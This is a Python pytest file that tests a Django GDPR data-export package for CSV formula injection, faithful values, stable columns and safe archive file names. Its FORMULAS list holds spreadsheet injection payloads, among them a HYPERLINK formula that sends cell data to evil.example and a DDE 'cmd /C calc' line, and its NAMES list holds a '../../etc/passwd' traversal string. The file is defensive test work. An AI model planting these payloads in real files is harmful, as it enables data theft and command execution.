"""A copy holds what she wrote, all of it, and as she wrote it."""

import csv
import hashlib
import io
import json
import re
import zipfile

import pytest
from django.utils import timezone

from contact.models import Enquiry
from privacy.subjects import package
from privacy.subjects.package.table import exact
from tests import make
from tests.defects.doors import way_to


pytestmark = pytest.mark.django_db


def copy_of(email):
    content = b''.join(package.stream([email], now=timezone.now()))
    archive = zipfile.ZipFile(io.BytesIO(content))
    return {name: archive.read(name) for name in archive.namelist()}


def rows_in_json(files, kind='contact.Enquiry'):
    kinds = json.loads(files['data.json'])['kinds']
    return next(each['rows'] for each in kinds if each['kind'] == kind)


def rows_in_csv(files, kind='contact.Enquiry'):
    text = files[f'csv/{kind}.csv'].decode('utf-8-sig')
    return list(csv.DictReader(io.StringIO(text, newline='')))


# --- (e) Formulas in CSV, and values as Python shows them ---------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"ok")',
    '+1+cmd|" /C calc"!A0',
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    'x";=1+1',
    "'=1+1",
]
CALCULATES = re.compile(r'[=+\-@＝＋－＠\t\r]')


@pytest.mark.parametrize('formula', FORMULAS)
def test_no_spreadsheet_calculates_what_somebody_wrote(formula):
    """(e) gdpr-assist: a message that begins with = runs on opening."""
    make.enquiry(name=formula, message=formula)

    files = copy_of(make.ADA)

    raw = files['csv/contact.Enquiry.csv'].decode('utf-8-sig')
    # Wherever a spreadsheet of any country may begin a cell.
    cells = re.split('[;,"\t\r\n]', raw)
    assert not [cell for cell in cells if CALCULATES.match(cell)]
    (row,) = rows_in_csv(files)
    assert not CALCULATES.match(row['message'])


@pytest.mark.parametrize('formula', FORMULAS)
def test_and_all_the_same_nothing_is_lost(formula):
    """(e) gdpr-assist: taking characters away would be no true copy."""
    make.enquiry(message=formula)

    files = copy_of(make.ADA)

    assert rows_in_json(files)[0]['message'] == formula
    assert exact(rows_in_csv(files)[0]['message']) == formula


def test_values_are_said_as_json_says_them():
    """(e) gdpr-assist: str() makes None a word and a moment ambiguous."""
    make.enquiry()
    make.colleague()

    files = copy_of(make.ADA)

    (enquiry,) = rows_in_json(files)
    assert enquiry['acknowledged_at'] is None
    assert re.fullmatch(r'\d{4}-.*T.*\+00:00', enquiry['received_at'])
    (account,) = rows_in_json(files, 'privacy.StaffMember')
    assert account['is_active'] is True


def test_no_table_and_no_page_speaks_python():
    """(e) gdpr-assist: "None", "True", "<Wording: Wording 3>"."""
    make.enquiry()
    make.consent()
    make.colleague()
    make.dsr()

    files = copy_of(make.ADA)

    tables = [text for name, text in files.items() if name.endswith('.csv')]
    for text in [*tables, files['index.html']]:
        words = set(re.split(r'[^\w.<>]+', text.decode()))
        assert not words & {'None', 'True', 'False', 'datetime.datetime'}
        assert not re.search(rb' object at 0x|&lt;\w+: |<\w+: ', text)


def test_columns_stand_in_one_order():
    """(e) gdpr-assist: a set of names puts them anew in every export."""
    make.enquiry()
    make.enquiry(name='')

    first, second = rows_in_csv(copy_of(make.ADA))

    declared = ['id', *Enquiry.personal_data.fields]
    assert list(first) == list(second)
    assert [name for name in first if name in declared] == declared


# --- (o) Something with a space in its name, exported as nothing --------------

NAMES = [
    'Ada Lovelace',
    '  two  spaces\tand a tab ',
    '../../etc/passwd',
    'C:\\temp\\CON.txt',
    'a/b?c#d%20e&f;g"h\'i',
    '<b>Ąžuolas</b> Š. 𝒜da 👩‍🔬',
    'x' * 100,
]


@pytest.mark.parametrize('name', NAMES)
def test_a_name_of_any_shape_arrives_whole(name):
    """(o) fides: an attachment with a space in its name came as 0 bytes."""
    make.enquiry(name=name, message=f'{name}\n{name}')

    files = copy_of(make.ADA)

    (row,) = rows_in_json(files)
    assert (row['name'], row['message']) == (name, f'{name}\n{name}')
    (cells,) = rows_in_csv(files)
    assert exact(cells['name']) == name


@pytest.mark.parametrize('name', NAMES)
def test_no_file_of_a_copy_is_named_by_a_person(client, name):
    """(o) fides: so no name can break the archive or leave its folder."""
    make.enquiry(name=name)
    plain = re.compile(r'(csv/)?[A-Za-z]+(\.[A-Za-z]+)?\.(json|html|csv)')

    assert all(map(plain.fullmatch, copy_of(make.ADA)))
    link = way_to('me', make.dsr()) + 'copy/'
    attached = client.post(link).headers['Content-Disposition']
    assert re.fullmatch(r'attachment; filename="[\w.-]+"', attached)


@pytest.mark.parametrize('name', NAMES)
def test_no_file_of_a_copy_is_empty_or_other_than_it_says(name):
    """(o) fides: the package said nothing of the file that was lost."""
    make.enquiry(name=name)

    files = copy_of(make.ADA)

    listed = json.loads(files.pop('manifest.json'))['files']
    assert {file['name'] for file in listed} == set(files)
    for file in listed:
        content = files[file['name']]
        assert len(content) == file['size'] > 0
        assert hashlib.sha256(content).hexdigest() == file['sha256']
